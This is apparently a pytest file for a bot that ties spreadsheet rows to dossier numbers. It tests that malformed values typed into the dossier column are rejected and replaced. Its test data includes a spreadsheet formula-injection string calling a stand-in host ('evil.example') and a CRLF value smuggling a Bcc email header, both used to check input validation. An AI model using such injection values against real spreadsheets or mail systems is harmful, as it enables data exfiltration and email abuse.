"""Tying rows to dossiers (bot.app.rows) when the `N° dossier` column holds something the bot did not write."""

from openpyxl import load_workbook

from bot.app.demo import build_workbook
from bot.app.rows import dossier_number
from bot.app.wiring import make_cycle
from tests.app.conftest import ROOT, at, outbox_keys


def test_a_dossier_number_is_the_prefix_the_year_and_a_sequence():
    assert dossier_number("FVMA-2026-0042") == "FVMA-2026-0042"
    assert dossier_number(" FVMA-2026-0042 ") == "FVMA-2026-0042"
    for typed in ('=IMPORTDATA("x")', "FVMA 2026 0042", "à voir", "x" * 5000, "FVMA-2026-0042\r\nBcc: x@y.z",
                  42, None, ""):
        assert dossier_number(typed) == ""


def book_with_dossier_cells(tmp_path, cells: dict[int, str]):
    book = tmp_path / "book.xlsx"
    build_workbook(ROOT / "samples" / "fvma-reponses.csv", book)
    wb = load_workbook(book)
    sheet = wb.worksheets[0]
    column = sheet.max_column + 1
    sheet.cell(row=1, column=column, value="N° dossier")
    for line, text in cells.items():
        sheet.cell(row=line, column=column, value=text).data_type = "s"
    wb.save(book)
    return book


def numbers(book) -> list[str]:
    rows = list(load_workbook(book).worksheets[0].iter_rows(values_only=True))
    column = rows[0].index("N° dossier")
    return [r[column] for r in rows[1:]]


def test_text_typed_in_the_dossier_column_is_replaced_and_blocks_no_one(make_config, tmp_path):
    # Once, such a cell became the dossier and its Message-ID made every cycle fail for every row.
    book = book_with_dossier_cells(tmp_path, {3: '=IMPORTDATA("https://evil.example")', 4: "FVMA 2026 0009"})
    cycle = make_cycle(make_config(sheet={"backend": "local", "local": {"path": str(book)}},
                                   schedule={"notify_since": "2026-01-01T00:00:00+01:00"}))
    cycle.run(at(6))
    shown = numbers(book)
    assert all(n and n.startswith("FVMA-2026-") for n in shown)
    assert len(set(shown)) == len(shown)
    assert any(k.endswith(".reception.etudiant") for k in outbox_keys(tmp_path / "outbox"))


def test_a_number_typed_on_a_row_is_never_given_to_another(make_config, tmp_path):
    book = book_with_dossier_cells(tmp_path, {5: "FVMA-2026-0001"})
    cycle = make_cycle(make_config(sheet={"backend": "local", "local": {"path": str(book)}}))
    cycle.run(at(6))
    shown = numbers(book)
    assert shown[3] == "FVMA-2026-0001"
    assert shown.count("FVMA-2026-0001") == 1 and len(set(shown)) == len(shown)
